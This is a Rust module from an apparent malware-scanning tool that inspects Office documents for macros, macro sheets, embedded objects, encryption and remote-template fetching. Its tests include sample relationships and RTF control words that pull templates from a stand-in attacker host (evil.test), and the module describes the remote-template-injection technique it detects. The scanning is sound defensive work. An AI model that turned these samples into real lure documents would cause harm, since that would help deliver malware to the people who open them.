//! Office documents, old (compound files) and new (ZIP archives of XML): macros, templates fetched from elsewhere, other
//! things embedded. It reads names and a few records; it runs nothing and expands no XML.

use super::archive::{Listing, unpack};
use std::io::{Cursor, Read};

/// Entries of a compound file looked at.
const COMPOUND_ENTRIES_MAX: usize = 2_000;
/// Bytes read of one workbook or relations part.
const PART_BYTES_MAX: usize = 4 * 1024 * 1024;
/// Relations parts read in one document.
const RELATION_PARTS_MAX: usize = 50;
/// Records read of one workbook.
const WORKBOOK_RECORDS_MAX: usize = 4_000;

/// What a document holds.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Inside {
    /// Macros.
    pub macros: bool,
    /// A sheet of old-style macros.
    pub macro_sheet: bool,
    /// Where a template or object is fetched from.
    pub fetched_from: Option<String>,
    /// Something embedded.
    pub embedded: bool,
    /// A password is needed.
    pub encrypted: bool,
    /// It is an installer, not a document.
    pub installer: bool,
}

/// Looks into a compound file; `None` where it cannot be read.
pub fn look_into_compound(bytes: &[u8]) -> Option<Inside> {
    let mut file = cfb::CompoundFile::open(Cursor::new(bytes)).ok()?;
    let mut inside = Inside {
        // The class of Windows Installer packages.
        installer: file
            .root_entry()
            .clsid()
            .to_string()
            .eq_ignore_ascii_case("000c1084-0000-0000-c000-000000000046"),
        ..Inside::default()
    };
    let mut workbook = None;
    for entry in file.walk().take(COMPOUND_ENTRIES_MAX) {
        let name = entry.name().to_lowercase();
        match name.as_str() {
            "vba" | "_vba_project" | "_vba_project_cur" | "macros" => inside.macros = true,
            "encryptedpackage" => inside.encrypted = true,
            "\u{1}ole10native" | "equation native" => inside.embedded = true,
            "workbook" | "book" if entry.is_stream() => workbook = Some(entry.path().to_path_buf()),
            _ => {}
        }
    }
    if let Some(mut stream) = workbook.and_then(|path| file.open_stream(path).ok()) {
        let mut records = Vec::new();
        let _ = stream
            .by_ref()
            .take(PART_BYTES_MAX as u64)
            .read_to_end(&mut records);
        inside.macro_sheet = has_macro_sheet(&records);
        inside.encrypted |= has_record(&records, FILE_PASS);
    }
    Some(inside)
}

/// BoundSheet8 ([MS-XLS] 2.4.28): names a sheet and its kind.
const BOUND_SHEET: u16 = 0x0085;
/// FilePass ([MS-XLS] 2.4.117): what follows is encrypted.
const FILE_PASS: u16 = 0x002f;

fn records(workbook: &[u8]) -> impl Iterator<Item = (u16, &[u8])> {
    let mut rest = workbook;
    std::iter::from_fn(move || {
        let (kind, after) = rest.split_first_chunk::<2>()?;
        let (length, after) = after.split_first_chunk::<2>()?;
        let length = usize::from(u16::from_le_bytes(*length)).min(after.len());
        let (body, after) = after.split_at_checked(length)?;
        rest = after;
        Some((u16::from_le_bytes(*kind), body))
    })
    .take(WORKBOOK_RECORDS_MAX)
}

fn has_record(workbook: &[u8], wanted: u16) -> bool {
    records(workbook).any(|(kind, _)| kind == wanted)
}

/// The sixth byte of a BoundSheet8 is the sheet's kind; 1 is a macro sheet.
fn has_macro_sheet(workbook: &[u8]) -> bool {
    records(workbook).any(|(kind, body)| kind == BOUND_SHEET && body.get(5) == Some(&1))
}

/// Looks into a document of the new kind, already listed; `None` where it is an ordinary archive.
pub fn look_into_xml(bytes: &[u8], listing: &Listing) -> Option<Inside> {
    if !listing
        .entries
        .iter()
        .any(|entry| entry.name == "[Content_Types].xml")
    {
        return None;
    }
    let mut inside = Inside::default();
    let mut relation_parts = 0;
    for entry in &listing.entries {
        let name = entry.name.to_ascii_lowercase();
        inside.macros |= name.ends_with("vbaproject.bin");
        inside.macro_sheet |= name.contains("xl/macrosheets/");
        inside.embedded |= name.contains("/embeddings/oleobject") || name.contains("/activex/");
        if name.ends_with(".rels") && relation_parts < RELATION_PARTS_MAX {
            relation_parts += 1;
            let text = unpack(bytes, entry.index, PART_BYTES_MAX).unwrap_or_default();
            inside.fetched_from = inside
                .fetched_from
                .or_else(|| fetched_from(&String::from_utf8_lossy(&text)));
        }
    }
    Some(inside)
}

/// The target of the first relation that is fetched when the document is opened. Plain links are not: people follow them.
fn fetched_from(relations: &str) -> Option<String> {
    const FETCHED: [&str; 4] = ["/attachedTemplate", "/oleObject", "/frame", "/subDocument"];
    relations
        .split("<Relationship ")
        .skip(1)
        .take(1_000)
        .find_map(|relation| {
            let element = relation.split('>').next()?;
            let external = element.contains("\"External\"") || element.contains("'External'");
            let target = element
                .split("Target=")
                .nth(1)?
                .trim_start_matches(['"', '\''])
                .split(['"', '\''])
                .next()?;
            let remote = target.contains("://")
                || target.starts_with("\\\\")
                || target.starts_with("mhtml:");
            let local = target.starts_with("file:///C:") || target.starts_with("file:///c:");
            (external && remote && !local && FETCHED.iter().any(|kind| element.contains(kind)))
                .then(|| target.to_owned())
        })
}

/// Looks into rich text: embedded objects, and templates fetched from elsewhere.
pub fn look_into_rich_text(text: &str) -> Inside {
    let lower = text.to_ascii_lowercase();
    let template = lower.split("\\*\\template").nth(1).map(str::trim_start);
    Inside {
        embedded: lower.contains("\\objdata") || lower.contains("\\objupdate"),
        fetched_from: template
            .filter(|target| target.starts_with("http") || target.starts_with("\\\\"))
            .map(|target| target.split(['}', ' ']).next().unwrap_or(target).to_owned()),
        ..Inside::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_macro_sheet_is_a_record_of_its_own_kind() {
        let plain = [0x85, 0, 8, 0, 0, 0, 0, 0, 0, 0, 1, 0];
        let macros = [0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0];
        assert!(!has_macro_sheet(&plain));
        assert!(has_macro_sheet(&macros));
        assert!(!has_macro_sheet(&macros[..7]));
    }

    #[test]
    fn fetched_templates_are_told_from_links() {
        let template = "<Relationship Id=\"r1\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.test/t.dotm\" TargetMode=\"External\"/>";
        let link = template.replace("attachedTemplate", "hyperlink");
        assert_eq!(
            fetched_from(template).as_deref(),
            Some("http://evil.test/t.dotm")
        );
        assert_eq!(fetched_from(&link), None);
        assert!(
            look_into_rich_text("{\\rtf1{\\*\\template http://evil.test/a}}")
                .fetched_from
                .is_some()
        );
    }

    #[test]
    fn a_compound_file_with_a_macro_storage_has_macros() {
        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        file.create_storage_all("/Macros/VBA").unwrap();
        let bytes = file.into_inner().into_inner();
        assert!(look_into_compound(&bytes).unwrap().macros);
        assert_eq!(
            look_into_compound(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 broken"),
            None
        );
    }
}
